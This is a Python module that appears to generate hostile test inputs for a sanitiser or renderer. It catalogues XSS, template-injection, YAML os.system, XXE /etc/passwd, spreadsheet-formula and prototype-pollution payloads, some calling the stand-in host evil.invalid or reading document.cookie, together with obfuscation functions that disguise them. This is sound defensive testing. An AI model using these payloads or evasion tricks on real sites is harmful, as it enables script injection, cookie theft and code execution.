"""What a hostile text may try: families of payloads as data, and ways to write each differently.

``@`` stands for what a payload runs; each execution is seen by traps.py. No host of the name
evil.invalid exists.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from html import escape
from urllib.parse import quote

# What a payload runs: a call that is trapped, a mark, a request.
ACTS = (
    "alert(1)",
    "window.__hit=1",
    "confirm(document.cookie)",
    "prompt(1)",
    "fetch('//evil.invalid/x')",
    "new Image().src='//evil.invalid/x'",
    "eval('window.__hit=1')",
    "Function('window.__hit=1')()",
    "navigator.sendBeacon('//evil.invalid/x')",
    "new WebSocket('wss://evil.invalid/')",
    "open('//evil.invalid/')",
    "import('//evil.invalid/x.js')",
    "top.location='//evil.invalid/'",
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "elements": (
        "<script>@</script>",
        "<script src=//evil.invalid/x.js></script>",
        '<script type="module">@</script>',
        "<img src=x onerror=@>",
        "<img src=//evil.invalid/x.png>",
        '<img srcset="//evil.invalid/x.png 2x">',
        "<body onload=@>",
        "<details open ontoggle=@>x</details>",
        "<video><source onerror=@></video>",
        "<audio src=x onerror=@>",
        "<iframe src=javascript:@></iframe>",
        '<iframe srcdoc="<script>parent.@</script>"></iframe>',
        "<object data=javascript:@></object>",
        "<embed src=//evil.invalid/x.swf>",
        "<input autofocus onfocus=@>",
        "<select autofocus onfocus=@></select>",
        "<marquee onstart=@>x</marquee>",
        "<form action=javascript:@><button autofocus>x</button></form>",
        "<a href=javascript:@>x</a>",
        "<base href=//evil.invalid/>",
        "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
        "<link rel=stylesheet href=//evil.invalid/x.css>",
        "<link rel=prefetch href=//evil.invalid/x>",
        "<div popover onbeforetoggle=@ id=p>x</div>",
        "<xss autofocus tabindex=1 onfocus=@>x</xss>",
        "<style>@import '//evil.invalid/x.css';</style>".replace(
            "@import", "\N{COMMERCIAL AT}import"
        ),
        "<template shadowrootmode=open><script>@</script></template>",
        "<dialog open onclose=@><form method=dialog><button>x</button></form></dialog>",
    ),
    "drawings": (
        "<svg onload=@>",
        "<svg><script>@</script></svg>",
        "<svg><script href=//evil.invalid/x.js /></svg>",
        "<svg><animate onbegin=@ attributeName=x dur=1s>",
        "<svg><set attributeName=onload to=@>",
        "<svg><use href=//evil.invalid/x.svg#a></use></svg>",
        "<svg><image href=//evil.invalid/x.png /></svg>",
        "<svg><a xlink:href=javascript:@><text x=9 y=9>x</text></a></svg>",
        "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
        "<svg><style><img src=x onerror=@></style></svg>",
        "<svg><title><img src=x onerror=@></title></svg>",
        "<math><mtext><img src=x onerror=@></mtext></math>",
        "<math href=javascript:@>x</math>",
        "<math><mi><table><mglyph><style><img src=x onerror=@></style></mglyph></table></mi>",
        "<svg></p><style><a id='</style><img src=x onerror=@>'>",
    ),
    "ends of elements": (
        "</title><script>@</script>",
        "</script><script>@</script>",
        "</template><img src=x onerror=@>",
        "</textarea><img src=x onerror=@>",
        "</style><img src=x onerror=@>",
        "</noscript><img src=x onerror=@>",
        "</svg><img src=x onerror=@>",
        "</text></g></svg><script>@</script>",
        "</desc><script>@</script>",
        "</pre></code><script>@</script>",
        "--><script>@</script>",
        "<!--><script>@</script>",
        "<!-- --!><img src=x onerror=@>",
        "]]><script>@</script>",
        "<![CDATA[<script>@</script>]]>",
        "<?xml version='1.0'?><script>@</script>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
        "<noscript><p title='</noscript><img src=x onerror=@>'>",
        "</td></tr></table><script>@</script>",
        "</option></select><img src=x onerror=@>",
    ),
    "ends of attributes": (
        '" onmouseover="@" x="',
        "' onmouseover='@' x='",
        '" autofocus onfocus="@" x="',
        "' autofocus onfocus='@' x='",
        "` onmouseover=`@` x=`",
        '"><script>@</script>',
        "'><img src=x onerror=@>",
        '" style="background:url(//evil.invalid/x)" x="',
        '" href="javascript:@" x="',
        '" onload="@" "',
        " onmouseover=@ ",
        '\\" onmouseover=\\"@\\" \\"',
        "&quot; onmouseover=&quot;@&quot;",
        '" popovertarget=x onclick=@ accesskey=x "',
    ),
    "addresses": (
        "javascript:@",
        "JaVaScRiPt:@",
        " javascript:@",
        "java\tscript:@",
        "java&#10;script:@",
        "&#106;avascript:@",
        "&#x6A&#x61vascript:@",
        "javascript&colon;@",
        "data:text/html,<script>@</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:@",
        "//evil.invalid/x",
        "https://evil.invalid/x",
        "\\\\evil.invalid\\x",
        "file:///etc/passwd",
        "blob:https://evil.invalid/x",
        "view-source:javascript:@",
    ),
    "Markdown": (
        "[x](javascript:@)",
        "[x](<javascript:@>)",
        "[x](&#106;avascript:@)",
        "[x](data:text/html,<script>@</script>)",
        "[x](//evil.invalid/x)",
        "![x](//evil.invalid/x.png)",
        "![x](https://evil.invalid/x.png)",
        '![x](x "\'onerror=@ ")',
        "[![x](//evil.invalid/x.png)](javascript:@)",
        "<javascript:@>",
        "<https://evil.invalid/onmouseover=@>",
        "[x][y] [y]: javascript:@",
        '[x](x "title" onclick=@)',
        "`<script>@</script>`",
        "``` <script>@</script> ```",
        "```mermaid graph TD; A-->B; click A call @ ```",
        "**<img src=x onerror=@>**",
        "~~<img src=x onerror=@>~~",
        "$\\href{javascript:@}{x}$",
        "[^1]: <script>@</script>",
        "> <script>@</script>",
        "# <script>@</script>",
        "!!! note <script>@</script>",
        '=== "<script>@</script>"',
        "--8<-- /etc/passwd",
        ":material-x:{ onclick=@ }",
        "x{: onclick='@' .evil #evil style='background:url(//evil.invalid/x)' }",
        "{: .evil onmouseover=@ }",
        "{ onclick=@ }",
        "<div markdown='1' onclick=@>x</div>",
        "<!-- md:option --><img src=x onerror=@>",
        "*[HTML]: <img src=x onerror=@>",
    ),
    "templates": (
        "{{ secret }}",
        "{{ config }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% raw %}<script>@</script>{% endraw %}",
        "{% include '/etc/passwd' %}",
        "{# <script>@</script> #}",
        "{{ '<script>@</script>' | safe }}",
        "${@}",
        "`${@}`",
        "#{@}",
        "<%= @ %>",
        "{{constructor.constructor('@')()}}",
        "[[@]]",
        "datum.value",
        "datum['constructor']",
        "{signal: '@'}",
        '{"signal": "@"}',
        "{expr: '@'}",
        "event.view.@",
        "warn(datum) || @",
        "datum.toString.constructor('@')()",
        "$(id) %s %d {0} {x} {{x}}",
        "<esi:include src='//evil.invalid/x'/>",
        "<!--#include virtual='/etc/passwd' -->",
        "<?php @ ?>",
    ),
    "data": (
        '"}</script><script>@</script>',
        '","title":"x","x":"',
        "\\u003cscript\\u003e@\\u003c/script\\u003e",
        "\\x3cscript\\x3e@\\x3c/script\\x3e",
        '\\"};@;//',
        "';@;//",
        '";@;//',
        "\\';@;//",
        "`;@;//",
        "\u2028@\u2028",
        "\u2029@//",
        "*/@/*",
        ")]}',@",
        "null",
        "NaN",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("//evil.invalid/","x")',
        "@SUM(1)",
        "1e999",
        "__proto__",
        "constructor",
        "prototype",
        "__proto__[x]",
        "toString",
        "hasOwnProperty",
        "valueOf",
    ),
    "names of the page": (
        "<a id=location href=javascript:@>",
        "<form id=document><input name=body></form>",
        "<img name=getElementById src=x>",
        "<a id=__config>{}</a>",
        "<input id=__search name=attributes>",
        "<div id=ca-live-config>{}</div>",
        "<iframe name=chartAtlasVega></iframe>",
        "<script id=__config type=application/json>{}</script>",
        "document",
        "__md_scope",
        "window.name",
        "ca-live-config",
    ),
    "front matter": (
        "--- title: <script>@</script> ---",
        "---\ttitle: x\ttemplate: /etc/passwd",
        "!!python/object/apply:os.system ['id']",
        "!!python/name:os.system",
        "{a: [b, *c], <<: *d}",
        "&a [*a, *a]",
        "title: '<script>@</script>'",
        "template: redirect.html",
        "location: javascript:@",
        "...",
        "%YAML 1.1",
        "? x : !ENV HOME",
        "hide: [navigation] # @",
    ),
    "styles": (
        "<style>*{background:url(//evil.invalid/x)}</style>",
        "x;background:url(//evil.invalid/x)",
        "expression(@)",
        "red;}body{background:url('//evil.invalid/x')}",
        "<p style=background:url(//evil.invalid/x)>x</p>",
        "<div style='position:fixed;inset:0'>x</div>",
        "url(javascript:@)",
        "</style><script>@</script>",
        "\\3c script\\3e @",
        "#x{behavior:url(//evil.invalid/x)}",
        "<xss style='animation:x' onanimationstart=@></xss>",
        "var(--x,url(//evil.invalid/x))",
    ),
    "letters": (
        "\u202e<script>@</script>\u202c",
        "\u2066<img src=x onerror=@>\u2069",
        "<scr\u200bipt>@</scr\u200bipt>",
        "<\u200cimg src=x onerror=@>",
        "\uff1cscript\uff1e@\uff1c/script\uff1e",
        "\u2039script\u203a@",
        "\u3008img src=x onerror=@\u3009",
        "\ufe64script\ufe65@\ufe64/script\ufe65",
        "\u00bcscript\u00be@\u00bc/script\u00be",
        "+ADw-script+AD4-@+ADw-/script+AD4-",
        "\ufeff<script>@</script>",
        "<\u0130mg src=x onerror=@>",
        "<\u017fcript>@</\u017fcript>",
        "\u00a0<svg/onload=@>\u3000",
        "a\u0300\u0301\u0302" * 20 + "<img src=x onerror=@>",
        "\U0001f469\u200d\U0001f4bb<script>@</script>",
        "W" * 3000 + "<script>@</script>",
        "<" * 400 + "script>@",
        "<b>" * 100 + "<img src=x onerror=@>",
    ),
    "encodings": (
        "&lt;script&gt;@&lt;/script&gt;",
        "&amp;lt;script&amp;gt;@&amp;lt;/script&amp;gt;",
        "&#60;img src=x onerror=@&#62;",
        "&#x3c;img src=x onerror=@&#x3e;",
        "&#0000060img src=x onerror=@&#0000062",
        "&LT;script&GT;@&LT;/script&GT;",
        "%3Cscript%3E@%3C/script%3E",
        "%253Cscript%253E@%253C/script%253E",
        "\\u003cimg src=x onerror=@\\u003e",
        "\\74script\\76@",
        "&lt;img src=x onerror=@&gt;",
        "&NewLine;<img src=x onerror=@>",
        "&nvlt;script>@",
    ),
}

Change = Callable[[str, random.Random], str]


def _case(text: str, chance: random.Random) -> str:
    return "".join(letter.swapcase() if chance.random() < 0.3 else letter for letter in text)


def _entities(text: str, chance: random.Random) -> str:
    write = chance.choice(("&#{};", "&#x{:x};", "&#000{}", "&#X{:X};"))
    return "".join(
        write.format(ord(letter)) if letter in "<>\"'&:" or chance.random() < 0.1 else letter
        for letter in text
    )


def _spaces(text: str, chance: random.Random) -> str:
    return text.replace(" ", chance.choice(("/", "  ", "\f", "\t", "\u00a0", " / ")))


def _hidden(text: str, chance: random.Random) -> str:
    at = chance.randrange(len(text) + 1)
    return text[:at] + chance.choice("\u200b\u200d\u202e\u2066\u00ad\ufeff\u2028") + text[at:]


def _cut(text: str, chance: random.Random) -> str:
    return text[: chance.randrange(len(text) // 2, len(text)) + 1]


def _twice(text: str, _: random.Random) -> str:
    return f"{text}{text}"


CHANGES: tuple[Change, ...] = (
    _case,
    _entities,
    _spaces,
    _hidden,
    _cut,
    _twice,
    lambda text, _: escape(text),
    lambda text, _: escape(escape(text)),
    lambda text, _: quote(text, safe=" =()"),
    lambda text, chance: chance.choice("\"'`") + ">" + text,
    lambda text, chance: chance.choice(("</title>", "</script>", "-->", "]]>", "</svg>")) + text,
    lambda text, _: f"**{text}**",
    lambda text, _: f"[{text}]({text})",
    lambda text, _: f"`{text}`",
    lambda text, _: f"{{{{ '{text}' }}}}",
    lambda text, _: f"x {text} \\",
)
# One payload in so many stays as it is written here; the others are changed once or twice.
_PLAIN = 3


def payload(family: str, chance: random.Random) -> str:
    """Return a payload of a family, as text of one line."""
    text = chance.choice(FAMILIES[family]).replace("@", chance.choice(ACTS))
    for change in chance.sample(CHANGES, chance.randrange(_PLAIN)):
        text = change(text, chance)
    return text.replace("\n", " ").replace("\r", " ")
